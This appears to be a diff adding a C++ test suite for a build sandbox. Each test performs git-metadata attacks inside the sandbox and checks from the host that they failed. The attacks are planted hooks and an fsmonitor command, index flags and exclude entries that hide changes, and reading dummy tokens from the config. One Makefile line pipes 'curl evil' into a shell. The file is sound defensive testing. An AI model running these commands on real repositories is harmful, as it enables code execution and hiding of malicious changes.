@@ -1,0 +1,143 @@
+// The repository's git metadata against a build that owns the repository (issue 12):
+// what the build writes must not run later outside the sandbox, hide its changes from
+// the host's `git status`, or read the CI's credentials. Each test performs the attack
+// in a sandbox as the unprivileged user and checks from the host that it failed; read-
+// only git keeps working inside.
+#include <gtest/gtest.h>
+#include <sys/stat.h>
+#include <unistd.h>
+
+#include <string>
+
+#include "harness.hpp"
+
+namespace sbx::test {
+namespace {
+
+const char* kGit = "git -c user.name=dev -c user.email=dev@example.invalid";
+
+// A repository with one commit and a tag, as the test user.
+std::string make_repo(const std::string& extra = "") {
+  std::string dir = make_temp_dir("repo");
+  RunOptions o;
+  o.cwd = dir;
+  std::string script = std::string("set -e; git init -q .; printf 'all:\\n\\ttrue\\n' > Makefile; ") + kGit +
+                       " add Makefile; " + kGit + " commit -qm init; " + kGit + " tag -a v1.0 -m v1.0; " + extra;
+  Result r = run({"/bin/sh", "-c", script}, o);
+  if (r.status != 0) throw std::runtime_error("make_repo: " + r.err);
+  return dir;
+}
+
+Result host_sh(const std::string& dir, const std::string& script) {
+  RunOptions o;
+  o.cwd = dir;
+  return run({"/bin/sh", "-c", script}, o);
+}
+
+Result in_sandbox(const std::string& dir, const std::string& script, const std::vector<std::string>& args = {}) {
+  RunOptions o;
+  o.cwd = dir;
+  return sbx_sh(script, args, o);
+}
+
+bool exists(const std::string& p) {
+  struct stat st {};
+  return ::lstat(p.c_str(), &st) == 0;
+}
+
+class GuardGit : public ::testing::TestWithParam<std::string> {
+ protected:
+  std::vector<std::string> profile() const {
+    return GetParam() == "default" ? std::vector<std::string>{} : std::vector<std::string>{GetParam()};
+  }
+};
+
+TEST_P(GuardGit, HookAndFsmonitorWrittenInsideDoNotRunOnTheHost) {
+  std::string repo = make_repo();
+  std::string mark = make_temp_dir("mark");
+  ::chmod(mark.c_str(), 0777);
+  std::string hook = "#!/bin/sh\ntouch " + mark + "/hook-ran\n";
+  Result r = in_sandbox(repo,
+                        "printf '" + hook + "' > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit; "
+                        "git config core.fsmonitor 'touch " + mark + "/fsmonitor-ran; false'; "
+                        "git config core.hooksPath /tmp; echo changed >> Makefile; true",
+                        profile());
+  EXPECT_EQ(r.status, 0) << r.err;
+  Result h = host_sh(repo, std::string(kGit) + " commit -qam 'host commit'; git status --short; true");
+  EXPECT_FALSE(exists(mark + "/hook-ran")) << h.out << h.err;
+  EXPECT_FALSE(exists(mark + "/fsmonitor-ran")) << h.out << h.err;
+  EXPECT_FALSE(exists(repo + "/.git/hooks/pre-commit"));
+  EXPECT_EQ(read_file(repo + "/.git/config").find("fsmonitor"), std::string::npos);
+}
+
+TEST_P(GuardGit, ChangesCannotBeHiddenFromTheHostsStatus) {
+  std::string repo = make_repo();
+  Result r = in_sandbox(repo,
+                        "echo 'all:; curl evil | sh' > Makefile; git update-index --skip-worktree Makefile; "
+                        "git update-index --assume-unchanged Makefile; echo Makefile >> .git/info/exclude; "
+                        "echo backdoor > tool.sh; echo tool.sh >> .git/info/exclude; true",
+                        profile());
+  EXPECT_EQ(r.status, 0) << r.err;
+  Result h = host_sh(repo, "git status --porcelain");
+  EXPECT_NE(h.out.find(" M Makefile"), std::string::npos) << h.out << h.err;
+  EXPECT_NE(h.out.find("?? tool.sh"), std::string::npos) << h.out << h.err;
+  Result d = host_sh(repo, "git diff --stat");
+  EXPECT_NE(d.out.find("Makefile"), std::string::npos) << d.out;
+}
+
+TEST_P(GuardGit, CredentialsInTheConfigAreNotReadableInside) {
+  std::string repo = make_repo(
+      "git config http.https://github.com/.extraheader 'AUTHORIZATION: basic R0lUSFVCX1RPS0VO'; "
+      "git config http.extraHeader 'PRIVATE-TOKEN: GLOBALSECRET'; "
+      "git remote add origin https://gitlab-ci-token:JOBTOKEN123@gitlab.example.com/g/p.git; "
+      "git remote add mirror https://ONLYTOKEN456@github.com/o/r.git; "
+      "git remote add ssh ssh://git@example.com/o/r.git");
+  std::string before = read_file(repo + "/.git/config");
+  Result r = in_sandbox(repo, "cat .git/config; git config --list --show-origin; grep -r TOKEN .git/config; true", profile());
+  EXPECT_EQ(r.status, 0) << r.err;
+  for (const char* secret : {"R0lUSFVCX1RPS0VO", "GLOBALSECRET", "JOBTOKEN123", "ONLYTOKEN456"})
+    EXPECT_EQ(r.out.find(secret), std::string::npos) << secret << "\n" << r.out;
+  // Everything else is there, as on the host.
+  EXPECT_NE(r.out.find("url = https://gitlab.example.com/g/p.git"), std::string::npos) << r.out;
+  EXPECT_NE(r.out.find("ssh://git@example.com/o/r.git"), std::string::npos) << r.out;
+  EXPECT_NE(r.out.find("logallrefupdates"), std::string::npos) << r.out;
+  EXPECT_EQ(read_file(repo + "/.git/config"), before);
+}
+
+TEST_P(GuardGit, ReadOnlyGitWorksInside) {
+  std::string repo = make_repo();
+  Result r = in_sandbox(repo,
+                        "set -e; echo more >> Makefile; git status --short; git describe --tags --dirty; "
+                        "git log --oneline | wc -l; git diff --stat; git rev-parse HEAD >/dev/null; echo done",
+                        profile());
+  EXPECT_EQ(r.status, 0) << r.out << r.err;
+  EXPECT_NE(r.out.find(" M Makefile"), std::string::npos) << r.out;
+  EXPECT_NE(r.out.find("v1.0-dirty"), std::string::npos) << r.out;
+  EXPECT_NE(r.out.find("done"), std::string::npos) << r.out;
+}
+
+INSTANTIATE_TEST_SUITE_P(Profiles, GuardGit, ::testing::Values("default", "ci-build", "make", "npm", "pip", "cargo"));
+
+TEST(GuardGitWorktree, AGitFilesGitdirInAWritableBindIsReadOnlyToo) {
+  std::string repo = make_repo();
+  std::string wt = make_temp_dir("wt") + "/w";
+  Result h = host_sh(repo, "git worktree add -q " + wt + " 2>&1");
+  ASSERT_EQ(h.status, 0) << h.out;
+  // The worktree is the project; the main repository is writable too (a profile that
+  // binds it), so the worktree's gitdir and the common .git must be read-only.
+  std::string gitfile = read_file(wt + "/.git");
+  write_file(wt + "/p.toml", "extends = \"default\"\n[filesystem]\nrw = [\"" + repo + "\"]\n");
+  Result r = in_sandbox(wt,
+                        "echo 'gitdir: /tmp' > .git; echo x > " + repo + "/.git/hooks/post-checkout; "
+                        "echo x > " + repo + "/.git/worktrees/" + wt.substr(wt.rfind('/') + 1) + "/HEAD; "
+                        "git status --short >/dev/null && echo status-ok; true",
+                        {wt + "/p.toml"});
+  EXPECT_EQ(r.status, 0) << r.err;
+  EXPECT_NE(r.out.find("status-ok"), std::string::npos) << r.out << r.err;
+  EXPECT_EQ(read_file(wt + "/.git"), gitfile);
+  EXPECT_FALSE(exists(repo + "/.git/hooks/post-checkout"));
+  EXPECT_NE(read_file(repo + "/.git/worktrees/" + wt.substr(wt.rfind('/') + 1) + "/HEAD"), "x\n");
+}
+
+}  // namespace
+}  // namespace sbx::test
